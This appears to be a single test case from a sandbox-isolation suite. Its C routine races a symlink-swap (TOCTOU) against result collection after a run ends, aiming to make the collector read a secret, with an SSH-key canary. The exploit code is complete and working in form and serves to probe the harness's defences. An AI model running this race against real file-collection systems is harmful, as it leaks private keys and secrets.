// id: ar-swap-race
// group: artefacts
// aim: Swap a result for a link to a secret, again and again, while it is being collected.
// judge: outside
// canary: ssh-key
// tier-l: enforced
// source: TOCTOU class
// watch: collected

// Goes on in a child after the end of the run, for about a second, because that is when results are read.
static int attempt(void) {
  const char *secret = parameter("secret");
  unlink("result.txt");
  symlink(secret, "link");
  close(open("result.txt", O_CREAT | O_WRONLY, 0600));
  double end = now() + 1.2;
  if (fork() == 0) {
    close(1), close(2), setsid();
    while (now() < end) syscall(SYS_renameat2, AT_FDCWD, "link", AT_FDCWD, "result.txt", 2 /* RENAME_EXCHANGE */);
    return 0;
  }
  for (double quick = now() + 0.3; now() < quick;)
    syscall(SYS_renameat2, AT_FDCWD, "link", AT_FDCWD, "result.txt", 2);
  held("the race is over");
  return 0;
}
